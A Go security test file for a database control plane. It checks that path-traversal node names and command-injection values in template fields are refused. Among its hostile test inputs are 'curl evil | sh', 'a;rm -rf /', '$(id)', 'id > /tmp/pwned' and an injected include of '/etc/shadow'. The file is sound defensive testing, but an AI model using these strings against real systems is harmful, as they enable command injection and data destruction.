package server_test

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/dbpilot/dbpilot/controlplane"
	"github.com/dbpilot/dbpilot/controlplane/store"
	"github.com/dbpilot/dbpilot/infra"
	"github.com/dbpilot/dbpilot/proto"
)

// hostileNames are node names a tenant admin holding its cluster's ingest
// key (it is in the cluster's cloud-init) might try: traversal, absolute,
// percent-encoded, separators, control characters.
var hostileNames = []string{"..", "../c-victim", "../../..", "/etc", "/", ".", "%2e%2e", "..%2f..", "a/b", `a\b`, "node1/../..", "x\n", "NODE1", strings.Repeat("a", 41)}

// rawMemberEvent is a member_state event of cluster acme/default/{cluster}
// from node, as raw JSON (so that names the proto package refuses can be
// sent).
func rawMemberEvent(t *testing.T, cluster, node string) []byte {
	t.Helper()
	const ph = "placeholder0node"
	h := proto.Header{ClusterRef: proto.ClusterRef{Namespace: "acme", Project: "default", Cluster: cluster}, Node: ph,
		Term: 1, Revision: 1, TimestampMS: time.Now().UnixMilli()}
	e, err := proto.NewEnvelope(proto.TypeMemberState, proto.AgentSource("acme", cluster, ph), h,
		proto.MemberState{Role: proto.RolePrimary, State: proto.StateRunning, Healthy: true})
	if err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal(e)
	q, _ := json.Marshal(node)
	return bytes.ReplaceAll(b, []byte(ph), q[1:len(q)-1])
}

// ingestPost posts body to the server's ingest endpoint as cluster id.
func ingestPost(t *testing.T, base, id, key, contentType string, body []byte) (int, string) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodPost, base+"/v1/ingest/events", bytes.NewReader(body))
	req.SetBasicAuth(id, key)
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestSecurityNamesAndPaths attacks a real server (embedded etcd, store,
// process provider) as a tenant admin holding its cluster's ingest key:
// hostile node names through ingest, the API and etcd never reach the
// filesystem, events of nodes the control plane never provisioned are
// refused, and deleting the tenant's cluster removes its own recorded
// node folder and nothing else (a sibling cluster's folder, files beside
// the provider root and the data folder survive), even when the store
// holds a legacy "external" node row named "..". It fails on the issue-9
// findings: before the fix, the ".." member was stored and the delete
// removed nodes/{id}/.., i.e. every tenant's nodes.
func TestSecurityNamesAndPaths(t *testing.T) {
	dir := testDir(t)
	s, admin := startServer(t, dir)
	defer s.Close()
	ctx := context.Background()
	seedCluster(t, s.Store, "c-attacker", "acme", "own")
	seedCluster(t, s.Store, "c-victim", "acme", "victim")

	// What must survive: the victim's node folder, a file beside the
	// cluster folders, one in the data folder.
	nodes := filepath.Join(dir, "nodes")
	sentinels := []string{filepath.Join(nodes, "c-victim", "node1", "data", "PG_VERSION"), filepath.Join(nodes, "sentinel"), filepath.Join(dir, "sentinel")}
	for _, f := range append(sentinels, filepath.Join(nodes, "c-attacker", "node1", "agent.yaml")) {
		if err := os.MkdirAll(filepath.Dir(f), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(f, []byte("keep"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	// A store written before the fix: an event-learnt member named "..".
	if err := s.Store.UpsertNode(ctx, store.Node{ClusterID: "c-attacker", Name: "..", State: "external"}); err != nil {
		t.Fatal(err)
	}

	secret, err := os.ReadFile(filepath.Join(dir, "ingest.key"))
	if err != nil {
		t.Fatal(err)
	}
	key := controlplane.IngestKey(secret, "c-attacker")
	target := s.URL

	// Ingest: hostile names are malformed (400, or rejected in a batch);
	// a well-formed name the control plane never provisioned is refused.
	for _, n := range hostileNames {
		code, answer := ingestPost(t, target, "c-attacker", key, proto.MediaType, rawMemberEvent(t, "own", n))
		if code != http.StatusBadRequest || !strings.Contains(answer, "node") {
			t.Errorf("ingest node %q: %d %s, want 400 naming the node", n, code, answer)
		}
	}
	var batch []json.RawMessage
	for _, n := range append([]string{"node9"}, hostileNames...) {
		batch = append(batch, rawMemberEvent(t, "own", n))
	}
	body, _ := json.Marshal(batch)
	code, answer := ingestPost(t, target, "c-attacker", key, proto.BatchMediaType, body)
	var res proto.BatchResult
	if code != http.StatusAccepted || json.Unmarshal([]byte(answer), &res) != nil || res.Accepted != 0 || len(res.Rejected) != len(batch) ||
		!strings.Contains(res.Rejected[0].Error, "not provisioned") {
		t.Errorf("hostile batch: %d %s, want every event rejected (node9: not provisioned)", code, answer)
	}
	if code, answer := ingestPost(t, target, "c-attacker", key, proto.MediaType, rawMemberEvent(t, "own", "node9")); code != http.StatusBadRequest || !strings.Contains(answer, "not provisioned") {
		t.Errorf("unprovisioned node9: %d %s, want 400 not provisioned", code, answer)
	}
	// The provisioned node still reports.
	if code, answer := ingestPost(t, target, "c-attacker", key, proto.MediaType, rawMemberEvent(t, "own", "node1")); code != http.StatusAccepted {
		t.Errorf("node1: %d %s, want 202", code, answer)
	}
	ns, err := s.Store.ListNodes(ctx, "c-attacker")
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range ns {
		if n.Name != "node1" && n.Name != ".." {
			t.Errorf("ingest created node row %q", n.Name)
		}
	}

	// The API: hostile names in bodies and paths are refused.
	for _, n := range []string{"..", "%2e%2e", "a/b", "/etc", "x\n"} {
		var e apiErr
		if code := admin.do("POST", "/v1/namespaces/acme/clusters", map[string]any{"name": n}, &e); code != 400 || e.Field != "name" {
			t.Errorf("create cluster %q: %d %+v, want 400 naming name", n, code, e)
		}
		if code := admin.do("POST", "/v1/namespaces/acme/clusters/own/switchover", map[string]any{"to": n}, &e); code != 400 || e.Field != "to" {
			t.Errorf("switchover to %q: %d %+v, want 400 naming to", n, code, e)
		}
	}
	for _, p := range []string{"/v1/namespaces/acme/clusters/own/nodes/%2e%2e/cloud-init", "/v1/namespaces/acme/clusters/own/nodes/a%2Fb/cloud-init",
		"/v1/namespaces/acme/clusters/%2e%2e", "/v1/namespaces/%2e%2e/clusters"} {
		if code := admin.do("GET", p, nil, nil); code != 400 && code != 404 {
			t.Errorf("GET %s: %d, want 400 or 404", p, code)
		}
	}
	// The legacy ".." row is no switchover target either.
	var e apiErr
	if code := admin.do("POST", "/v1/namespaces/acme/clusters/own/failover", map[string]any{"to": ".."}, &e); code != 400 || e.Field != "to" {
		t.Errorf("failover to the legacy \"..\" member: %d %+v, want 400", code, e)
	}

	// etcd: a member key named ".." (anyone with the agents' etcd
	// credentials could write it) is not a member.
	prefix := "/dbpilot/v1/clusters/acme/default/own/"
	if _, err := s.Etcd.Raw().Put(ctx, prefix+"members/..", `{"node":"..","role":"replica","state":"running","healthy":true}`); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Etcd.Raw().Put(ctx, prefix+"leader", `{"node":"../c-victim","term":9}`); err != nil {
		t.Fatal(err)
	}
	live, err := controlplane.ReadLive(ctx, s.Etcd, "acme", "default", "own")
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := live.Members[".."]; ok || live.Leader != nil {
		t.Errorf("etcd read kept hostile names: members %v, leader %+v", live.Members, live.Leader)
	}
	var got clusterOut
	if code := admin.do("GET", "/v1/namespaces/acme/clusters/own", nil, &got); code != 200 {
		t.Fatalf("get cluster: %d", code)
	}
	for _, m := range got.Members {
		if m.Name == ".." {
			t.Errorf("API shows the etcd member %q", m.Name)
		}
	}

	// The provider itself refuses a hostile name even if every check
	// above were missed.
	if err := s.Process.Delete(ctx, infra.NodeSpec{ClusterID: "c-attacker", Node: ".."}, json.RawMessage(`{"dir":"`+nodes+`"}`)); err == nil {
		t.Error("process provider deleted node \"..\"")
	}
	if err := s.Process.DeleteCluster(ctx, ".."); err == nil {
		t.Error("process provider deleted cluster \"..\"")
	}

	// Deleting the attacker's cluster removes its folder and nothing else.
	var op struct {
		ID string `json:"id"`
	}
	if code := admin.do("DELETE", "/v1/namespaces/acme/clusters/own", nil, &op); code != 202 {
		t.Fatalf("delete cluster: %d", code)
	}
	if o := admin.waitOp("acme", op.ID, 2*time.Minute); o.State != store.OpSucceeded {
		t.Fatalf("delete operation: %+v", o)
	}
	if _, err := os.Stat(filepath.Join(nodes, "c-attacker")); !os.IsNotExist(err) {
		t.Errorf("the deleted cluster's folder is still there: %v", err)
	}
	for _, f := range sentinels {
		if b, err := os.ReadFile(f); err != nil || string(b) != "keep" {
			t.Errorf("%s did not survive the delete: %v", f, err)
		}
	}
	var victim clusterOut
	if code := admin.do("GET", "/v1/namespaces/acme/clusters/victim", nil, &victim); code != 200 {
		t.Errorf("victim cluster: %d", code)
	}
}

// TestSecurityTemplatesAndPrivilege: a tenant admin cannot create a
// template that decides what runs on the hosts (handlers, bin_dir,
// packages, parameters, host_selector): 403 naming the fields; a platform
// admin can, and its fields are validated for what they are (400 naming
// the field); a namespace template stored without approval (before the
// fix) cannot be used to create a cluster; token names with control
// characters are refused; ingest refuses other content types.
func TestSecurityTemplatesAndPrivilege(t *testing.T) {
	dir := testDir(t)
	s, admin := startServer(t, dir)
	defer s.Close()
	ctx := context.Background()
	tok, err := s.CreateToken(ctx, "tenant-admin", store.Grant{Namespace: "acme", Role: "admin"})
	if err != nil {
		t.Fatal(err)
	}
	tenant := client{t: t, base: s.URL, token: tok}
	tpl := func(name string, extra map[string]any) map[string]any {
		m := map[string]any{"name": name, "engine": "postgres", "engine_version": "15", "agent_version": "dev",
			"plans": map[string]any{"small": map[string]any{"cpu": 1, "memory_mb": 512, "disk_gb": 1}}}
		for k, v := range extra {
			m[k] = v
		}
		return m
	}
	runsCommand := map[string]any{"handlers": map[string]any{"preStart": map[string]any{"shell": "id > /tmp/pwned"}}}
	for _, tc := range []struct {
		name  string
		extra map[string]any
		field string
	}{
		{"handlers", runsCommand, "handlers"},
		{"bin-dir", map[string]any{"bin_dir": "/tmp/evil"}, "bin_dir"},
		{"packages", map[string]any{"packages": []string{"netcat"}}, "packages"},
		{"parameters", map[string]any{"parameters": map[string]string{"shared_preload_libraries": "evil"}}, "parameters"},
		{"selector", map[string]any{"host_selector": map[string]string{"zone": "a"}}, "host_selector"},
	} {
		var e apiErr
		code := tenant.do("POST", "/v1/namespaces/acme/templates", tpl("t-"+tc.name, tc.extra), &e)
		if code != 403 || e.Field != tc.field || !strings.Contains(e.Message, "platform admin") || !strings.Contains(e.Message, tc.field) {
			t.Errorf("tenant template with %s: %d %+v, want 403 naming %s and the platform admin", tc.name, code, e, tc.field)
		}
	}
	if code := tenant.do("POST", "/v1/namespaces/acme/templates", tpl("plain", map[string]any{"allow_colocation": true}), nil); code != 201 {
		t.Errorf("tenant plain template: %d, want 201", code)
	}
	if code := admin.do("POST", "/v1/namespaces/acme/templates", tpl("approved", runsCommand), nil); code != 201 {
		t.Errorf("platform admin template with handlers: %d, want 201", code)
	}
	// The tenant may use the approved template (validated, not run here).
	var list struct {
		Items []struct{ Name string } `json:"items"`
	}
	if code := tenant.do("GET", "/v1/namespaces/acme/templates", nil, &list); code != 200 || !strings.Contains(mustJSONString(list), "approved") {
		t.Errorf("tenant template list: %d %+v", code, list)
	}

	// Fields are validated for what they are, even a platform admin's.
	for _, tc := range []struct {
		extra map[string]any
		field string
	}{
		{map[string]any{"bin_dir": "a;rm -rf /"}, "bin_dir"},
		{map[string]any{"bin_dir": "/usr/lib/../../tmp"}, "bin_dir"},
		{map[string]any{"bin_dir": "/usr/lib/postgresql/15/bin $(id)"}, "bin_dir"},
		{map[string]any{"packages": []string{"a;rm -rf /"}}, "packages[0]"},
		{map[string]any{"packages": []string{"postgresql-15", "-oAPT::x"}}, "packages[1]"},
		{map[string]any{"parameters": map[string]string{"x;y": "1"}}, "parameters"},
		{map[string]any{"parameters": map[string]string{"work_mem": "1\ninclude '/etc/shadow'"}}, "parameters.work_mem"},
		{map[string]any{"parameters": map[string]string{"archive_command": "curl evil | sh"}}, "parameters.archive_command"},
		{map[string]any{"host_selector": map[string]string{"zone": "a;b"}}, "host_selector"},
		{map[string]any{"handlers": map[string]any{"preStart": map[string]any{"bogus": 1}}}, "handlers"},
	} {
		var e apiErr
		code := admin.do("POST", "/v1/namespaces/acme/templates", tpl("bad", tc.extra), &e)
		if code != 400 || e.Field != tc.field {
			t.Errorf("platform admin template %v: %d %+v, want 400 naming %s", tc.extra, code, e, tc.field)
		}
	}

	// A template stored before the fix (no approval) is not usable.
	legacy, _ := json.Marshal(tpl("legacy", runsCommand))
	if err := s.Store.PutTemplate(ctx, store.Template{Namespace: "acme", Name: "legacy", Body: legacy, CreatedAt: time.Now()}); err != nil {
		t.Fatal(err)
	}
	var e apiErr
	if code := tenant.do("POST", "/v1/namespaces/acme/clusters", map[string]any{"name": "pwn", "template": "legacy", "plan": "small"}, &e); code != 403 || e.Field != "template" || !strings.Contains(e.Message, "platform admin") {
		t.Errorf("cluster from an unapproved template: %d %+v, want 403 naming template", code, e)
	}

	// A cluster created from it before the fix can still be deleted.
	now := time.Now()
	lc := store.Cluster{ID: "c-legacy", Namespace: "acme", Project: "default", Name: "legacy", Engine: "postgres", Version: "15", Template: "legacy",
		Plan: "small", Provider: "process", Replicas: 1, SynchronousMode: "off", Phase: store.PhaseReady, CreatedAt: now, UpdatedAt: now}
	if err := s.Store.CreateCluster(ctx, lc, store.Operation{ID: "op-c-legacy", Namespace: "acme", ClusterID: lc.ID, Kind: "create",
		State: store.OpSucceeded, CreatedAt: now, UpdatedAt: now}); err != nil {
		t.Fatal(err)
	}
	var op struct {
		ID string `json:"id"`
	}
	if code := tenant.do("DELETE", "/v1/namespaces/acme/clusters/legacy", nil, &op); code != 202 {
		t.Fatalf("delete the legacy cluster: %d", code)
	}
	if o := tenant.waitOp("acme", op.ID, time.Minute); o.State != store.OpSucceeded {
		t.Errorf("delete of a cluster whose template is now refused: %+v", o)
	}

	// Token names: no control characters.
	for _, name := range []string{"evil\x1b[2J", "two\nlines", "bell\a", "c1\u009b31m"} {
		if code := admin.do("POST", "/v1/tokens", map[string]any{"name": name, "grants": []map[string]string{{"namespace": "acme", "role": "viewer"}}}, &e); code != 400 || e.Field != "name" {
			t.Errorf("token name %q: %d %+v, want 400 naming name", name, code, e)
		}
	}

	// Ingest: only the CloudEvents media types.
	seedCluster(t, s.Store, "c-own", "acme", "own")
	secret, err := os.ReadFile(filepath.Join(dir, "ingest.key"))
	if err != nil {
		t.Fatal(err)
	}
	key := controlplane.IngestKey(secret, "c-own")
	ev := rawMemberEvent(t, "own", "node1")
	for _, ct := range []string{"", "application/json", "text/plain", "application/x-www-form-urlencoded", "application/cloudevents+jsonx"} {
		if code, answer := ingestPost(t, s.URL, "c-own", key, ct, ev); code != http.StatusUnsupportedMediaType || !strings.Contains(answer, proto.MediaType) {
			t.Errorf("ingest with Content-Type %q: %d %s, want 415 naming %s", ct, code, answer, proto.MediaType)
		}
	}
	if code, answer := ingestPost(t, s.URL, "c-own", key, proto.MediaType+"; charset=utf-8", ev); code != http.StatusAccepted {
		t.Errorf("ingest with %s: %d %s, want 202", proto.MediaType, code, answer)
	}
}

func mustJSONString(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}
